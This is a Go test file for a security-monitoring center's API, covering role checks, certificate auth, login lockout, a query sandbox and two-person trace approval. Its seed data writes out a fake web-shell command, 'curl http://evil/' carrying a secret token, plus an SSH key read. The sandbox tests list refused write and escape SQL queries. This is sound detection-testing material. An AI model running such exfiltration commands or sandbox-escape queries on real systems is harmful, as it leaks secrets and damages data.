package center

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/netip"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/evilbitlabs/daemoneye/capture"
	"github.com/evilbitlabs/daemoneye/config"
	"github.com/evilbitlabs/daemoneye/store/sqlstore"
	"github.com/evilbitlabs/daemoneye/transport/pki"
	"github.com/evilbitlabs/daemoneye/transport/wire"
)

// fakeAudit records what the API would append to the ledger.
type fakeAudit struct {
	mu      sync.Mutex
	entries []auditEntry
	fail    error
}

type auditEntry struct {
	Kind, Actor string
	Payload     map[string]any
}

func (f *fakeAudit) Audit(_ context.Context, kind, actor string, payload any) error {
	b, err := json.Marshal(payload)
	if err != nil {
		return err
	}
	var m map[string]any
	if err := json.Unmarshal(b, &m); err != nil {
		return err
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.fail != nil {
		return f.fail
	}
	f.entries = append(f.entries, auditEntry{kind, actor, m})
	return nil
}

func (f *fakeAudit) since(n int) []auditEntry {
	f.mu.Lock()
	defer f.mu.Unlock()
	return slices.Clone(f.entries[n:])
}

func (f *fakeAudit) len() int {
	f.mu.Lock()
	defer f.mu.Unlock()
	return len(f.entries)
}

func (f *fakeAudit) setFail(err error) {
	f.mu.Lock()
	f.fail = err
	f.mu.Unlock()
}

// fakeCenter records what the API asks of the center.
type fakeCenter struct {
	mu       sync.Mutex
	requests []TraceRequest
	stops    []string
	err      error
}

func (c *fakeCenter) RequestTrace(_ context.Context, req TraceRequest) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.err != nil {
		return c.err
	}
	c.requests = append(c.requests, req)
	return nil
}

func (c *fakeCenter) Follow(_ context.Context, id int64, _ string) error {
	return fmt.Errorf("%w: link %d unknown to the fake center", errNotFollowable, id)
}

func (c *fakeCenter) StopTrace(_ context.Context, id, _, _ string) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.err != nil {
		return c.err
	}
	c.stops = append(c.stops, id)
	return nil
}

func (c *fakeCenter) snapshot() ([]TraceRequest, []string) {
	c.mu.Lock()
	defer c.mu.Unlock()
	return slices.Clone(c.requests), slices.Clone(c.stops)
}

// apiEnv is a real API on loopback HTTPS with a test CA and SQL store.
type apiEnv struct {
	t       *testing.T
	api     *API
	sql     *sqlstore.Store
	audit   *fakeAudit
	center  *fakeCenter
	ca      *pki.CA
	pool    *x509.CertPool
	base    string
	mu      sync.Mutex
	clients map[string]*http.Client
}

// Operators every environment has: one per role, a second approver, a
// local account, and a disabled one.
var testOperators = []struct {
	id   string
	role Role
}{{"vic", RoleViewer}, {"ana", RoleAnalyst}, {"apr", RoleApprover}, {"apr2", RoleApprover}, {"adm", RoleAdmin}}

const localPassword = "correct horse battery staple"

func newAPIEnv(t *testing.T, cfg config.API) *apiEnv {
	t.Helper()
	dir := t.TempDir()
	ca, err := pki.Init(filepath.Join(dir, "ca"), "Test CA", 0)
	if err != nil {
		t.Fatalf("pki.Init: %v", err)
	}
	v, err := ca.Verifier()
	if err != nil {
		t.Fatalf("Verifier: %v", err)
	}
	s, err := sqlstore.Open(filepath.Join(dir, "center.db"), nil)
	if err != nil {
		t.Fatalf("sqlstore.Open: %v", err)
	}
	e := &apiEnv{t: t, sql: s, audit: &fakeAudit{}, center: &fakeCenter{}, ca: ca, clients: map[string]*http.Client{}}
	e.pool = x509.NewCertPool()
	e.pool.AddCert(ca.Certificate())
	if cfg.QueryMaxRows == 0 {
		cfg.QueryMaxRows = 1000
	}
	if cfg.QueryTimeoutMS == 0 {
		cfg.QueryTimeoutMS = 2000
	}
	e.api, err = NewAPI(APIDeps{SQL: s, Audit: e.audit, Verifier: v, Cfg: cfg, Center: e.center})
	if err != nil {
		t.Fatalf("NewAPI: %v", err)
	}
	e.api.ops.kdf = argonParams{time: 1, memKiB: 64, threads: 1} // tests: cheap hashes
	e.api.viewEvery = time.Hour                                  // views flushed by the tests themselves
	ctx := context.Background()
	for _, o := range testOperators {
		if _, err := e.api.ops.Add(ctx, NewOperator{ID: o.id, Name: strings.ToUpper(o.id), Role: o.role}, "test", e.audit); err != nil {
			t.Fatalf("add operator %s: %v", o.id, err)
		}
	}
	if _, err := e.api.ops.Add(ctx, NewOperator{ID: "local-ana", Role: RoleAnalyst, Password: localPassword}, "test", e.audit); err != nil {
		t.Fatalf("add local operator: %v", err)
	}
	gone := true
	if _, err := e.api.ops.Add(ctx, NewOperator{ID: "gone", Role: RoleAdmin}, "test", e.audit); err != nil {
		t.Fatalf("add operator gone: %v", err)
	}
	if _, err := e.api.ops.Update(ctx, "gone", OperatorChange{Disabled: &gone}, "test", e.audit); err != nil {
		t.Fatalf("disable gone: %v", err)
	}
	e.seed()

	certPEM, keyPEM, err := ca.Issue(pki.RoleCenter, "center", pki.IssueOptions{Loopback: true})
	if err != nil {
		t.Fatalf("issue center: %v", err)
	}
	cert, err := pki.KeyPair(certPEM, keyPEM)
	if err != nil {
		t.Fatalf("KeyPair: %v", err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	e.base = "https://" + ln.Addr().String()
	sctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- e.api.Serve(sctx, ln, &tls.Config{Certificates: []tls.Certificate{*cert}}) }()
	t.Cleanup(func() {
		e.mu.Lock()
		for _, c := range e.clients {
			c.CloseIdleConnections()
		}
		e.mu.Unlock()
		cancel()
		if err := <-done; err != nil {
			t.Errorf("Serve: %v", err)
		}
		if err := s.Close(); err != nil {
			t.Errorf("sqlstore close: %v", err)
		}
	})
	return e
}

var (
	kApache = capture.ProcKey{PID: 100, Start: 1000}
	kBash   = capture.ProcKey{PID: 200, Start: 2000}
	kSSH    = capture.ProcKey{PID: 300, Start: 3000}
	kGone   = capture.ProcKey{PID: 400, Start: 4000}
	kCurl   = capture.ProcKey{PID: 500, Start: 5000}
)

const secretArg = "s3cr3t-t0ken"

// seed stores a small lineage (apache -> bash -> ssh, bash -> curl), an
// exited process, a trace with events and an alert.
func (e *apiEnv) seed() {
	t := e.t
	ctx := context.Background()
	base := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC).UnixNano()
	ex := func(tm int64, k, parent capture.ProcKey, exe string, argv ...string) capture.Event {
		return capture.Event{Time: tm, Kind: capture.KindExec, Proc: k, Parent: parent, Comm: filepath.Base(exe), Source: "ebpf",
			Exec: &capture.Exec{UID: 33, GID: 33, EUID: 33, EGID: 33, Exe: exe, Argv: argv, Cwd: "/var/www"}}
	}
	fork := func(tm int64, k, parent capture.ProcKey) capture.Event {
		return capture.Event{Time: tm, Kind: capture.KindFork, Proc: k, Parent: parent, Source: "ebpf"}
	}
	traced := ex(base+6, kSSH, kBash, "/usr/bin/ssh", "ssh", "-i", "/tmp/k", "root@db-1")
	traced.TraceID, traced.TraceSeq = "seedtrace", 1
	conn := capture.Event{Time: base + 7, Kind: capture.KindConnect, Proc: kSSH, Source: "ebpf", TraceID: "seedtrace", TraceSeq: 2,
		Conn: &capture.Conn{Proto: capture.ProtoTCP, Src: netip.MustParseAddrPort("10.0.0.5:40000"), Dst: netip.MustParseAddrPort("10.0.0.9:22")}}
	events := []capture.Event{
		fork(base, kApache, capture.ProcKey{PID: 1, Start: 1}),
		ex(base+1, kApache, capture.ProcKey{PID: 1, Start: 1}, "/usr/sbin/apache2", "apache2", "-k", "start"),
		fork(base+2, kBash, kApache),
		ex(base+3, kBash, kApache, "/bin/bash", "bash", "-c", "curl http://evil/"+secretArg),
		fork(base+4, kSSH, kBash),
		fork(base+5, kCurl, kBash),
		ex(base+5, kCurl, kBash, "/usr/bin/curl", "curl", "http://evil/"+secretArg),
		traced, conn,
		fork(base+8, kGone, kApache),
		ex(base+9, kGone, kApache, "/bin/true", "true"),
		{Time: base + 10, Kind: capture.KindExit, Proc: kGone, Source: "ebpf", Exit: &capture.Exit{}},
	}
	_, key, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	raw, err := wire.SealBatch("web-1", 1, events, key, false)
	if err != nil {
		t.Fatalf("SealBatch: %v", err)
	}
	b, err := wire.OpenBatch(raw, key.Public().(ed25519.PublicKey), wire.DefaultLimits())
	if err != nil {
		t.Fatalf("OpenBatch: %v", err)
	}
	if err := e.sql.IngestBatch(ctx, b); err != nil {
		t.Fatalf("IngestBatch: %v", err)
	}
	if err := e.sql.UpsertHost(ctx, sqlstore.Host{AgentID: "web-1", Addresses: []netip.Addr{netip.MustParseAddr("10.0.0.5")}}); err != nil {
		t.Fatalf("UpsertHost: %v", err)
	}
	for _, q := range []string{
		fmt.Sprintf(`INSERT INTO traces (trace_id, host, pid, start, depth, flags, state, created, initiated_by, reason)
			VALUES ('seedtrace', 'web-1', 300, 3000, 2, 7, 'active', %d, 'ana', 'seeded for the test')`, base),
		// The store does not keep trace ids of ingested events yet; set them.
		`UPDATE process_events SET trace_id = 'seedtrace', trace_seq = 1 WHERE host = 'web-1' AND pid = 300 AND kind = 'exec'`,
		`UPDATE network_events SET trace_id = 'seedtrace', trace_seq = 2 WHERE host = 'web-1' AND pid = 300 AND kind = 'connect'`,
		fmt.Sprintf(`INSERT INTO file_events (host, batch_seq, idx, seq, time, kind, pid, start, path, result, trace_id, trace_seq)
			VALUES ('web-1', 99, 0, 99, %d, 'open', 300, 3000, '/root/.ssh/id_rsa', 3, 'seedtrace', 3)`, base+8),
		fmt.Sprintf(`INSERT INTO alerts (rule_id, severity, technique, host, pid, start, time, last_time, context)
			VALUES ('web-shell', 'high', 'T1059', 'web-1', 200, 2000, %d, %d, '{"why":"shell from apache","cmdline":"bash -c %s"}')`, base+3, base+3, secretArg),
		fmt.Sprintf(`INSERT INTO alerts (rule_id, severity, host, pid, start, time, last_time, state)
			VALUES ('curl-out', 'low', 'web-1', 500, 5000, %d, %d, 'closed')`, base+5, base+5),
	} {
		if _, err := e.api.ops.db.Exec(q); err != nil {
			t.Fatalf("seed: %v\n%s", err, q)
		}
	}
}

// client returns an HTTPS client presenting the certificate of an
// operator issued by the test CA ("" for none).
func (e *apiEnv) client(name string) *http.Client {
	e.mu.Lock()
	defer e.mu.Unlock()
	if c, ok := e.clients[name]; ok {
		return c
	}
	conf := &tls.Config{RootCAs: e.pool, MinVersion: tls.VersionTLS13}
	if name != "" {
		certPEM, keyPEM, err := e.ca.Issue(pki.RoleOperator, name, pki.IssueOptions{})
		if err != nil {
			e.t.Fatalf("issue %s: %v", name, err)
		}
		cert, err := pki.KeyPair(certPEM, keyPEM)
		if err != nil {
			e.t.Fatal(err)
		}
		conf.Certificates = []tls.Certificate{*cert}
	}
	jar, _ := cookiejar.New(nil)
	c := &http.Client{Transport: &http.Transport{TLSClientConfig: conf, ForceAttemptHTTP2: true}, Jar: jar, Timeout: 10 * time.Second}
	e.clients[name] = c
	return c
}

// bare returns a client with neither a certificate nor cookies.
func (e *apiEnv) bare() *http.Client {
	e.mu.Lock()
	defer e.mu.Unlock()
	if c, ok := e.clients["\x00bare"]; ok {
		return c
	}
	c := &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: e.pool, MinVersion: tls.VersionTLS13}}, Timeout: 10 * time.Second}
	e.clients["\x00bare"] = c
	return c
}

type resp struct {
	status int
	body   map[string]any
	raw    string
	hdr    http.Header
}

func (r resp) err() string { s, _ := r.body["error"].(string); return s }

// do sends a request; body is a string (sent as is) or a value (JSON).
func (e *apiEnv) do(c *http.Client, method, path string, body any, hdr ...string) resp {
	e.t.Helper()
	var rd io.Reader
	switch b := body.(type) {
	case nil:
	case string:
		rd = strings.NewReader(b)
	case []byte:
		rd = bytes.NewReader(b)
	default:
		j, err := json.Marshal(b)
		if err != nil {
			e.t.Fatal(err)
		}
		rd = bytes.NewReader(j)
	}
	req, err := http.NewRequest(method, e.base+path, rd)
	if err != nil {
		e.t.Fatal(err)
	}
	if method == http.MethodPost {
		req.Header.Set("Content-Type", "application/json")
	}
	for i := 0; i+1 < len(hdr); i += 2 {
		req.Header.Set(hdr[i], hdr[i+1])
	}
	res, err := c.Do(req)
	if err != nil {
		e.t.Fatalf("%s %s: %v", method, path, err)
	}
	defer res.Body.Close()
	raw, _ := io.ReadAll(res.Body)
	out := resp{status: res.StatusCode, raw: string(raw), hdr: res.Header}
	if err := json.Unmarshal(raw, &out.body); err != nil {
		e.t.Fatalf("%s %s: status %d, body is not a JSON object: %q", method, path, res.StatusCode, raw)
	}
	return out
}

func (e *apiEnv) as(who, method, path string, body any) resp {
	e.t.Helper()
	return e.do(e.client(who), method, path, body)
}

// expectAudit runs f and checks it produced exactly one audit entry, of
// kind by actor; it returns the entry.
func (e *apiEnv) expectAudit(kind, actor string, f func()) auditEntry {
	e.t.Helper()
	n := e.audit.len()
	f()
	got := e.audit.since(n)
	if len(got) != 1 || got[0].Kind != kind || got[0].Actor != actor {
		e.t.Fatalf("want exactly one audit entry %s by %q, got %d: %+v", kind, actor, len(got), got)
	}
	return got[0]
}

func (e *apiEnv) traceState(id string) string {
	var s string
	if err := e.api.ops.db.QueryRow(`SELECT state FROM traces WHERE trace_id = ?`, id).Scan(&s); err != nil {
		e.t.Fatalf("trace %s: %v", id, err)
	}
	return s
}

// TestAPIRoleMatrix calls every route as every role and checks who gets
// in: 403 below the route's role, not 401/403 at or above it, 401 without
// credentials, 403 for a certificate with no operators row or a disabled
// one.
func TestAPIRoleMatrix(t *testing.T) {
	e := newAPIEnv(t, config.API{TwoPersonTraces: true})
	proc := "/api/v1/processes/web-1/200/2000"
	trace := map[string]any{"host": "web-1", "pid": 100, "start": 1000, "reason": "matrix: lateral movement"}
	cases := map[string]struct {
		path string
		body any
	}{
		"POST /api/v1/login":                                 {"/api/v1/login", map[string]string{"name": "local-ana", "password": localPassword}},
		"POST /api/v1/logout":                                {"/api/v1/logout", map[string]any{}},
		"GET /api/v1/whoami":                                 {"/api/v1/whoami", nil},
		"GET /api/v1/hosts":                                  {"/api/v1/hosts", nil},
		"GET /api/v1/alerts":                                 {"/api/v1/alerts", nil},
		"GET /api/v1/alerts/{id}":                            {"/api/v1/alerts/1", nil},
		"GET /api/v1/processes/{host}/{pid}/{start}":         {proc, nil},
		"GET /api/v1/processes/{host}/{pid}/{start}/lineage": {proc + "/lineage", nil},
		"POST /api/v1/reveal":                                {"/api/v1/reveal", map[string]any{"host": "web-1", "pid": 200, "start": 2000, "reason": "matrix check of reveal"}},
		"GET /api/v1/traces":                                 {"/api/v1/traces", nil},
		"GET /api/v1/traces/{id}":                            {"/api/v1/traces/seedtrace", nil},
		"POST /api/v1/traces":                                {"/api/v1/traces", trace},
		"POST /api/v1/traces/{id}/stop":                      {"/api/v1/traces/no-such-trace/stop", map[string]string{"reason": "matrix: stop nothing"}},
		"GET /api/v1/traces/{id}/export":                     {"/api/v1/traces/no-such-trace/export?reason=matrix:+export+nothing", nil},
		"POST /api/v1/links/{id}/follow":                     {"/api/v1/links/999999/follow", map[string]string{"reason": "matrix: follow nothing"}},
		"GET /api/v1/approvals":                              {"/api/v1/approvals", nil},
		"POST /api/v1/approvals/{id}":                        {"/api/v1/approvals/999999", map[string]string{"decision": "approve", "reason": "matrix: no such request"}},
		"POST /api/v1/query":                                 {"/api/v1/query", map[string]any{"sql": "SELECT 1"}},
		"GET /api/v1/operators":                              {"/api/v1/operators", nil},
		"POST /api/v1/operators":                             {"/api/v1/operators", map[string]string{"id": "", "role": "viewer"}},
		"POST /api/v1/operators/{id}":                        {"/api/v1/operators/no-such-op", map[string]string{"role": "viewer"}},
		"GET /api/v1/sinks":                                  {"/api/v1/sinks", nil},
		"POST /api/v1/sinks/{name}/enable":                   {"/api/v1/sinks/no-such-sink/enable", map[string]string{"reason": "matrix: enable nothing"}},
	}
	routes := e.api.Routes()
	for pattern := range routes {
		if _, ok := cases[pattern]; !ok {
			t.Errorf("route %s has no case in the role matrix", pattern)
		}
	}
	for pattern := range cases {
		if _, ok := routes[pattern]; !ok {
			t.Errorf("matrix case %s is not a route", pattern)
		}
	}
	for pattern, c := range cases {
		min := routes[pattern]
		method, _, _ := strings.Cut(pattern, " ")
		for _, o := range testOperators {
			r := e.as(o.id, method, c.path, c.body)
			switch {
			case o.role.Allows(min) || min == RoleNone:
				if r.status == http.StatusUnauthorized || r.status == http.StatusForbidden || r.status >= 500 {
					t.Errorf("%s as %s (%s, route needs %s): status %d %s, want to be let in", pattern, o.id, o.role, min, r.status, r.err())
				}
			default:
				if r.status != http.StatusForbidden || !strings.Contains(r.err(), "needs the "+min.String()+" role") {
					t.Errorf("%s as %s (%s, route needs %s): status %d %q, want 403 naming the role", pattern, o.id, o.role, min, r.status, r.err())
				}
			}
		}
		want := http.StatusUnauthorized
		if min == RoleNone {
			want = http.StatusOK
		}
		if r := e.do(e.bare(), method, c.path, c.body); r.status != want {
			t.Errorf("%s without credentials: status %d %q, want %d", pattern, r.status, r.err(), want)
		}
		for _, stranger := range []string{"mallory", "gone"} {
			want := http.StatusForbidden
			if min == RoleNone {
				want = http.StatusOK
			}
			if r := e.as(stranger, method, c.path, c.body); r.status != want {
				t.Errorf("%s with certificate %s: status %d %q, want %d", pattern, stranger, r.status, r.err(), want)
			}
		}
	}
}

func TestAPIUnknownOperatorAudited(t *testing.T) {
	e := newAPIEnv(t, config.API{})
	ent := e.expectAudit(AuditDenied, "mallory", func() {
		r := e.as("mallory", "GET", "/api/v1/hosts", nil)
		if r.status != http.StatusForbidden || !strings.Contains(r.err(), "not enrolled") {
			t.Errorf("unknown operator: status %d %q, want 403 not enrolled", r.status, r.err())
		}
	})
	if ent.Payload["path"] != "/api/v1/hosts" {
		t.Errorf("denied entry payload %v lacks the path", ent.Payload)
	}
	e.expectAudit(AuditDenied, "vic", func() {
		if r := e.as("vic", "POST", "/api/v1/query", map[string]string{"sql": "SELECT 1"}); r.status != http.StatusForbidden {
			t.Errorf("viewer query: status %d, want 403", r.status)
		}
	})
}

func TestAPITLSRefusesStrangers(t *testing.T) {
	e := newAPIEnv(t, config.API{})
	other, err := pki.Init(filepath.Join(t.TempDir(), "other"), "Other CA", 0)
	if err != nil {
		t.Fatal(err)
	}
	try := func(what string, certPEM, keyPEM []byte) {
		t.Helper()
		cert, err := pki.KeyPair(certPEM, keyPEM)
		if err != nil {
			t.Fatal(err)
		}
		c := &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: e.pool, Certificates: []tls.Certificate{*cert}}}}
		defer c.CloseIdleConnections()
		res, err := c.Get(e.base + "/api/v1/hosts")
		if err == nil {
			res.Body.Close()
			t.Errorf("%s: request got status %d, want the TLS handshake refused", what, res.StatusCode)
		}
	}
	certPEM, keyPEM, err := other.Issue(pki.RoleOperator, "ana", pki.IssueOptions{})
	if err != nil {
		t.Fatal(err)
	}
	try("operator certificate from another CA", certPEM, keyPEM)
	certPEM, keyPEM, err = e.ca.Issue(pki.RoleAgent, "ana", pki.IssueOptions{})
	if err != nil {
		t.Fatal(err)
	}
	try("agent certificate from our CA", certPEM, keyPEM)

	// Revoked while a connection is kept alive: the next request is refused.
	c := e.client("ana")
	if r := e.do(c, "GET", "/api/v1/hosts", nil); r.status != http.StatusOK {
		t.Fatalf("ana before revocation: %d", r.status)
	}
	leaf := c.Transport.(*http.Transport).TLSClientConfig.Certificates[0].Leaf
	if err := e.ca.Revoke(leaf.SerialNumber, 1); err != nil {
		t.Fatal(err)
	}
	if err := e.api.verifier.SetCRL(e.ca.CRL()); err != nil {
		t.Fatal(err)
	}
	if r := e.do(c, "GET", "/api/v1/hosts", nil); r.status != http.StatusUnauthorized || !strings.Contains(r.err(), "revoked") {
		t.Errorf("revoked certificate on a kept-alive connection: %d %q, want 401 revoked", r.status, r.err())
	}
}

func TestAPILocalLogin(t *testing.T) {
	e := newAPIEnv(t, config.API{})
	c := e.client("")
	var tok string
	ent := e.expectAudit(AuditLogin, "local-ana", func() {
		r := e.do(c, "POST", "/api/v1/login", map[string]string{"name": "local-ana", "password": localPassword})
		if r.status != http.StatusOK {
			t.Fatalf("login: %d %q", r.status, r.err())
		}
		tok, _ = r.body["token"].(string)
		if sc := r.hdr.Get("Set-Cookie"); !strings.Contains(sc, "HttpOnly") || !strings.Contains(sc, "Secure") || !strings.Contains(sc, "SameSite=Strict") {
			t.Errorf("session cookie %q: want HttpOnly, Secure, SameSite=Strict", sc)
		}
	})
	if ent.Payload["auth"] != "password" {
		t.Errorf("login audit payload %v: want auth password", ent.Payload)
	}
	if r := e.do(c, "GET", "/api/v1/whoami", nil); r.status != http.StatusOK || r.body["id"] != "local-ana" || r.body["auth"] != "password" {
		t.Errorf("whoami with the cookie: %d %v", r.status, r.body)
	}
	bearer := &http.Client{Transport: c.Transport}
	if r := e.do(bearer, "GET", "/api/v1/whoami", nil, "Authorization", "Bearer "+tok); r.status != http.StatusOK {
		t.Errorf("whoami with the bearer token: %d %q", r.status, r.err())
	}
	if r := e.do(bearer, "GET", "/api/v1/whoami", nil, "Authorization", "Bearer nope"); r.status != http.StatusUnauthorized {
		t.Errorf("whoami with a made-up token: %d, want 401", r.status)
	}
	if r := e.do(c, "GET", "/api/v1/operators", nil); r.status != http.StatusForbidden {
		t.Errorf("analyst session on an admin route: %d, want 403", r.status)
	}
	e.expectAudit(AuditLogout, "local-ana", func() {
		if r := e.do(c, "POST", "/api/v1/logout", ""); r.status != http.StatusOK || r.body["session_ended"] != true {
			t.Errorf("logout: %d %v", r.status, r.body)
		}
	})
	if r := e.do(bearer, "GET", "/api/v1/whoami", nil, "Authorization", "Bearer "+tok); r.status != http.StatusUnauthorized {
		t.Errorf("token after logout: %d, want 401", r.status)
	}

	// Wrong passwords: refused, audited, and after MaxLoginFailures the
	// account is locked even for the right password.
	anon := e.client("")
	for i := 0; i < MaxLoginFailures; i++ {
		ent := e.expectAudit(AuditLoginFailed, "", func() {
			r := e.do(anon, "POST", "/api/v1/login", map[string]string{"name": "local-ana", "password": "wrong password!"})
			if r.status != http.StatusUnauthorized {
				t.Errorf("bad password %d: %d %q, want 401", i, r.status, r.err())
			}
		})
		if ent.Payload["name"] != "local-ana" {
			t.Errorf("failed login entry %v lacks the name", ent.Payload)
		}
	}
	r := e.do(anon, "POST", "/api/v1/login", map[string]string{"name": "local-ana", "password": localPassword})
	if r.status != http.StatusTooManyRequests || r.hdr.Get("Retry-After") == "" {
		t.Errorf("right password while locked out: %d %q, want 429 with Retry-After", r.status, r.err())
	}
	// Unknown names are refused the same way as wrong passwords.
	if r := e.do(anon, "POST", "/api/v1/login", map[string]string{"name": "nobody", "password": localPassword}); r.status != http.StatusUnauthorized {
		t.Errorf("unknown name: %d, want 401", r.status)
	}
	// Certificate operators without a local account cannot log in by password.
	if r := e.do(anon, "POST", "/api/v1/login", map[string]string{"name": "adm", "password": localPassword}); r.status != http.StatusUnauthorized {
		t.Errorf("certificate-only operator by password: %d, want 401", r.status)
	}
}

func TestAPISessionEndsWhenDisabled(t *testing.T) {
	e := newAPIEnv(t, config.API{})
	c := e.client("")
	if r := e.do(c, "POST", "/api/v1/login", map[string]string{"name": "local-ana", "password": localPassword}); r.status != http.StatusOK {
		t.Fatalf("login: %d %q", r.status, r.err())
	}
	e.expectAudit(AuditOperatorUpdate, "adm", func() {
		if r := e.as("adm", "POST", "/api/v1/operators/local-ana", map[string]bool{"disabled": true}); r.status != http.StatusOK {
			t.Fatalf("disable: %d %q", r.status, r.err())
		}
	})
	if r := e.do(c, "GET", "/api/v1/whoami", nil); r.status != http.StatusUnauthorized {
		t.Errorf("session of a disabled operator: %d, want 401", r.status)
	}
	if r := e.do(c, "POST", "/api/v1/login", map[string]string{"name": "local-ana", "password": localPassword}); r.status != http.StatusForbidden {
		t.Errorf("login of a disabled operator: %d %q, want 403", r.status, r.err())
	}
}

func TestAPIQuerySandbox(t *testing.T) {
	e := newAPIEnv(t, config.API{QueryMaxRows: 50, QueryTimeoutMS: 300})
	var alertsBefore int
	e.api.ops.db.QueryRow(`SELECT count(*) FROM alerts`).Scan(&alertsBefore)
	for _, q := range []string{
		`INSERT INTO alerts (rule_id, severity, host, pid, start, time, last_time) VALUES ('x', 'low', 'h', 1, 1, 1, 1)`,
		`UPDATE alerts SET state = 'closed'`,
		`DELETE FROM alerts`,
		`ATTACH DATABASE '/tmp/daemoneye-api-test.db' AS x`,
		`PRAGMA writable_schema = 1`,
		`WITH x AS (SELECT 1) INSERT INTO alerts (rule_id, severity, host, pid, start, time, last_time) SELECT 'x', 'low', 'h', 1, 1, 1, 1 FROM x`,
		`WITH x AS (SELECT 1) DELETE FROM alerts WHERE id IN (SELECT * FROM x)`,
		`SELECT 1; DELETE FROM alerts`,
		`SELECT * FROM acct.operator_accounts`,
	} {
		ent := e.expectAudit(AuditQuery, "ana", func() {
			r := e.as("ana", "POST", "/api/v1/query", map[string]any{"sql": q})
			if r.status != http.StatusBadRequest || !strings.Contains(r.err(), "query refused") && !strings.Contains(r.err(), "query failed") {
				t.Errorf("%s: %d %q, want 400 refused", q, r.status, r.err())
			}
		})
		if ent.Payload["sql"] != q || ent.Payload["outcome"] == "ok" {
			t.Errorf("%s: audit payload %v", q, ent.Payload)
		}
	}
	var alertsAfter int
	e.api.ops.db.QueryRow(`SELECT count(*) FROM alerts`).Scan(&alertsAfter)
	if alertsAfter != alertsBefore {
		t.Errorf("alerts %d -> %d: a refused query wrote", alertsBefore, alertsAfter)
	}

	r := e.as("ana", "POST", "/api/v1/query", map[string]any{"sql": `WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c LIMIT 200) SELECT x FROM c`})
	if rows, _ := r.body["rows"].([]any); r.status != http.StatusOK || len(rows) != 50 || r.body["truncated"] != true {
		t.Errorf("row limit: %d, %d rows, truncated %v; want 200, 50 rows, truncated", r.status, len(rows), r.body["truncated"])
	}
	r = e.as("ana", "POST", "/api/v1/query", map[string]any{"sql": `SELECT rule_id FROM alerts WHERE severity = ? AND id > ?`, "args": []any{"high", 0}})
	if rows, _ := r.body["rows"].([]any); r.status != http.StatusOK || len(rows) != 1 || r.body["truncated"] != false {
		t.Errorf("query with args: %d %s", r.status, r.raw)
	}
	began := time.Now()
	r = e.as("ana", "POST", "/api/v1/query", map[string]any{"sql": `WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c WHERE x < 1000000000) SELECT count(*) FROM c`})
	if r.status != http.StatusBadRequest || !strings.Contains(r.err(), "time limit") {
		t.Errorf("endless query: %d %q, want 400 naming the time limit", r.status, r.err())
	}
	if d := time.Since(began); d > 5*time.Second {
		t.Errorf("endless query took %s with a 300 ms limit", d)
	}
	if r := e.as("ana", "POST", "/api/v1/query", map[string]any{"sql": "SELECT 1", "args": []any{map[string]any{}}}); r.status != http.StatusBadRequest {
		t.Errorf("object argument: %d, want 400", r.status)
	}
}

func TestAPITwoPersonRule(t *testing.T) {
	e := newAPIEnv(t, config.API{TwoPersonTraces: true})
	req := map[string]any{"host": "web-1", "pid": 200, "start": 2000, "depth": 3, "duration_s": 600,
		"collect": map[string]bool{"cmdlines": true, "network": true}, "reason": "shell spawned by apache"}
	if r := e.as("ana", "POST", "/api/v1/traces", map[string]any{"host": "web-1", "pid": 200, "start": 2000}); r.status != http.StatusBadRequest || !strings.Contains(r.err(), "reason") {
		t.Errorf("trace without a reason: %d %q, want 400", r.status, r.err())
	}
	var tr map[string]any
	var approval float64
	ent := e.expectAudit(AuditTraceRequest, "ana", func() {
		r := e.as("ana", "POST", "/api/v1/traces", req)
		if r.status != http.StatusAccepted {
			t.Fatalf("trace request: %d %q", r.status, r.err())
		}
		tr, _ = r.body["trace"].(map[string]any)
		approval, _ = r.body["approval_id"].(float64)
	})
	id, _ := tr["trace_id"].(string)
	if tr["state"] != "pending" || approval == 0 || ent.Payload["reason"] != "shell spawned by apache" {
		t.Fatalf("pending trace: %v, approval %v, audit %v", tr, approval, ent.Payload)
	}
	if reqs, _ := e.center.snapshot(); len(reqs) != 0 {
		t.Fatalf("center asked to start an unapproved trace: %+v", reqs)
	}
	if r := e.as("ana", "POST", "/api/v1/traces", req); r.status != http.StatusConflict {
		t.Errorf("second trace on the same process: %d, want 409", r.status)
	}
	path := fmt.Sprintf("/api/v1/approvals/%d", int(approval))
	approve := map[string]string{"decision": "approve", "reason": "confirmed: web shell"}
	if r := e.as("vic", "POST", path, approve); r.status != http.StatusForbidden {
		t.Errorf("viewer approving: %d, want 403", r.status)
	}
	if r := e.as("ana", "POST", path, approve); r.status != http.StatusForbidden {
		t.Errorf("analyst approving: %d, want 403", r.status)
	}
	if r := e.as("apr", "POST", path, map[string]string{"decision": "approve"}); r.status != http.StatusBadRequest {
		t.Errorf("approval without a reason: %d, want 400", r.status)
	}
	if r := e.as("apr", "GET", "/api/v1/approvals", nil); r.status != http.StatusOK || len(r.body["approvals"].([]any)) != 1 {
		t.Errorf("pending approvals: %d %s", r.status, r.raw)
	}
	e.expectAudit(AuditApproval, "apr", func() {
		if r := e.as("apr", "POST", path, approve); r.status != http.StatusOK {
			t.Fatalf("approve: %d %q", r.status, r.err())
		}
	})
	reqs, _ := e.center.snapshot()
	if len(reqs) != 1 || reqs[0].TraceID != id || reqs[0].InitiatedBy != "ana" || reqs[0].ApprovedBy != "apr" ||
		reqs[0].Depth != 3 || reqs[0].Caps.MaxDurationS != 600 || reqs[0].Flags != TraceCmdlines|TraceNetwork {
		t.Errorf("center trace requests %+v", reqs)
	}
	if s := e.traceState(id); s != "approved" {
		t.Errorf("trace state %s, want approved", s)
	}
	if r := e.as("apr2", "POST", path, approve); r.status != http.StatusConflict {
